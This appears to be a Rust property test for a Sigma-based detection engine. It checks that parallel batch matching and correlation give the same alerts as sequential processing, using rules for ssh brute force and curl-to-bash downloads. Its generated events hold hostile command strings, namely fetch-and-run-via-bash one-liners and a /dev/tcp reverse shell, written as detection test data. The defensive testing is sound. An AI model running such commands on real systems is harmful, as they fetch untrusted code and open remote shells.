//! Parallel batch evaluation (`RuleSet::evaluate_batch`) against the plain
//! sequential loop, with correlations: over the SigmaHQ rule tree (when
//! the shared test data is present) plus rules and correlations of our own,
//! and over the SigmaHQ regression events mixed with generated Linux
//! events, cut into batches of any size and matched on any number of
//! threads, every match and every correlation alert must be the same, in
//! the same order, as when each event is matched and correlated in turn.

#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

mod support;

use std::path::PathBuf;
use std::sync::OnceLock;

use proptest::prelude::*;
use rampart_detect::{
    CompileOptions, CorrelationAlert, CorrelationEngine, EngineLimits, LogSource, Match, RuleSet, RuleSetBuilder,
    windows_event_logsource,
};
use serde_json::{Value, json};

/// Rules over the generated Linux events, and correlations of several
/// types over them (and over one SigmaHQ rule, when loaded).
const OWN: &str = r#"
title: Failed ssh password
id: own-failed
name: own_failed
logsource: {product: linux, service: sshd}
detection: {s: {message|contains: 'Failed password'}, condition: s}
---
title: Accepted ssh login
id: own-accepted
name: own_accepted
logsource: {product: linux, service: sshd}
detection: {s: {message|startswith: 'Accepted '}, condition: s}
generate: true
---
title: Shell from a download
id: own-curl-bash
name: own_curl_bash
logsource: {product: linux, category: process_creation}
detection:
  dl: {CommandLine|contains: [curl, wget]}
  sh: {CommandLine|contains: ['| bash', '| sh']}
  condition: dl and sh
---
title: Many failed passwords for one user
id: own-bf
correlation: {type: event_count, rules: [own_failed], group-by: [User], timespan: 1m, condition: {gte: 4}}
level: high
---
title: One user from many addresses
id: own-spray
correlation: {type: value_count, rules: [own_failed], group-by: [User], timespan: 5m, condition: {field: src_ip, gte: 3}}
level: medium
---
title: Failed then accepted
id: own-guessed
correlation: {type: temporal_ordered, rules: [own_failed, own_accepted], group-by: [User], timespan: 2m}
level: critical
---
title: Downloads run by a user
id: own-dl
correlation: {type: event_count, rules: [own_curl_bash], group-by: [User], timespan: 10m, condition: {gte: 2}}
level: high
"#;

fn testdata() -> Option<PathBuf> {
    support::testdata(" (SigmaHQ part)")
}

/// The rule set (SigmaHQ plus ours) and the regression events with their
/// logsource, built once for every case.
fn fixture() -> &'static (RuleSet, Vec<(Value, LogSource)>) {
    static FIXTURE: OnceLock<(RuleSet, Vec<(Value, LogSource)>)> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let mut builder = RuleSetBuilder::new(CompileOptions::windows_evtx());
        let mut regression = Vec::new();
        if let Some(dir) = testdata() {
            builder.add_dir(&dir.join("rules"));
            let mut files = Vec::new();
            let mut stack = vec![dir.join("regression")];
            while let Some(d) = stack.pop() {
                for p in std::fs::read_dir(&d).unwrap().flatten().map(|e| e.path()) {
                    if p.is_dir() {
                        stack.push(p);
                    } else if p.extension().is_some_and(|e| e == "json") {
                        files.push(p);
                    }
                }
            }
            files.sort();
            for f in files {
                let text = std::fs::read_to_string(&f).unwrap();
                for ev in serde_json::Deserializer::from_str(&text).into_iter::<Value>() {
                    let ev = ev.unwrap();
                    let ls = windows_event_logsource(&ev).unwrap_or_else(LogSource::any);
                    regression.push((ev, ls));
                }
            }
            assert!(regression.len() >= 100, "only {} regression events", regression.len());
        }
        builder.add_yaml("own.yml", OWN);
        let (set, rejected) = builder.build();
        assert!(rejected.iter().all(|r| !r.path.ends_with("own.yml")), "{rejected:?}");
        assert!(set.correlations().len() >= 4);
        (set, regression)
    })
}

/// A small deterministic generator (SplitMix64).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

fn linux_event(r: &mut Rng) -> (Value, LogSource) {
    let user = r.pick(&["root", "alice", "bob", "deploy"]);
    let ip = format!("198.51.100.{}", r.next() % 5);
    if r.next().is_multiple_of(3) {
        let cmd = r.pick(&[
            "curl -s http://203.0.113.5/x | bash",
            "wget -qO- http://203.0.113.5/y | sh",
            "ls -la /tmp",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "chmod 777 /tmp/x",
        ]);
        let ev = json!({"CommandLine": cmd, "Image": "/usr/bin/bash", "User": user});
        (ev, LogSource::new(Some("linux"), Some("process_creation"), Some("auditd")))
    } else {
        let msg = r.pick(&["Failed password for {u} from {ip}", "Accepted password for {u} from {ip}", "Invalid user"]);
        let ev = json!({"message": msg.replace("{u}", user).replace("{ip}", &ip), "User": user, "src_ip": ip});
        (ev, LogSource::new(Some("linux"), None, Some("sshd")))
    }
}

/// Every event's matches and, after each event, the correlation alerts it
/// released (then those of the final flush).
#[derive(Debug, PartialEq)]
struct Outcome {
    matches: Vec<Vec<Match>>,
    alerts: Vec<(usize, Vec<CorrelationAlert>)>,
}

fn limits() -> EngineLimits {
    EngineLimits { lateness_ms: 30_000, ..EngineLimits::default() }
}

fn correlate(set: &RuleSet, events: &[(i64, Value, LogSource)], matches: Vec<Vec<Match>>) -> Outcome {
    let mut engine = CorrelationEngine::new(set, limits());
    let mut alerts = Vec::new();
    for (i, ((t, ev, _), m)) in events.iter().zip(&matches).enumerate() {
        let fired = engine.on_event(set, *t, ev, m);
        if !fired.is_empty() {
            alerts.push((i, fired));
        }
    }
    alerts.push((events.len(), engine.flush()));
    Outcome { matches, alerts }
}

/// The reference: one event at a time, matched then correlated.
fn sequential(set: &RuleSet, events: &[(i64, Value, LogSource)]) -> Outcome {
    let matches = events.iter().map(|(_, ev, ls)| set.matches(ev, ls)).collect();
    correlate(set, events, matches)
}

/// Batches of `batch` events matched on `threads` threads, then correlated
/// in order, as the detection stage does.
fn parallel(set: &RuleSet, events: &[(i64, Value, LogSource)], batch: usize, threads: usize) -> Outcome {
    let mut matches = Vec::with_capacity(events.len());
    for chunk in events.chunks(batch) {
        matches.extend(set.evaluate_batch(chunk, threads, |m, _, (_, ev, ls)| m.matches(ev, ls)));
    }
    correlate(set, events, matches)
}

/// Regression events and generated ones, interleaved by `seed`, with event
/// times that run forward but jitter (some arrive out of order).
fn events(seed: u64, generated: usize) -> Vec<(i64, Value, LogSource)> {
    let (_, regression) = fixture();
    let mut r = Rng(seed);
    let mut out = Vec::new();
    let mut reg = regression.iter().cycle();
    let total = generated + regression.len();
    for i in 0..total {
        let t = (i as i64) * 1_000 + (r.next() % 20_000) as i64 - 10_000;
        let (ev, ls) = if !regression.is_empty() && r.next().is_multiple_of(4) {
            reg.next().cloned().unwrap()
        } else {
            linux_event(&mut r)
        };
        out.push((t, ev, ls));
    }
    out
}

#[test]
fn the_fixture_exercises_matches_and_every_correlation() {
    let (set, _) = fixture();
    let evs = events(7, 3000);
    let out = sequential(set, &evs);
    let matched = out.matches.iter().filter(|m| !m.is_empty()).count();
    let fired: std::collections::BTreeSet<usize> =
        out.alerts.iter().flat_map(|(_, a)| a.iter().map(|c| c.correlation_index)).collect();
    println!("{} events, {matched} matched, correlations fired: {fired:?}", evs.len());
    assert!(matched > evs.len() / 10, "too few matches ({matched}) to compare anything");
    assert_eq!(fired.len(), set.correlations().len(), "every correlation fires at least once");
    assert_eq!(parallel(set, &evs, 1024, 2), out);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn parallel_batches_give_the_sequential_alerts_in_order(
        seed in any::<u64>(),
        generated in 0usize..1500,
        batch in 1usize..700,
        threads in 1usize..5,
    ) {
        let (set, _) = fixture();
        let evs = events(seed, generated);
        prop_assert_eq!(parallel(set, &evs, batch, threads), sequential(set, &evs));
    }
}
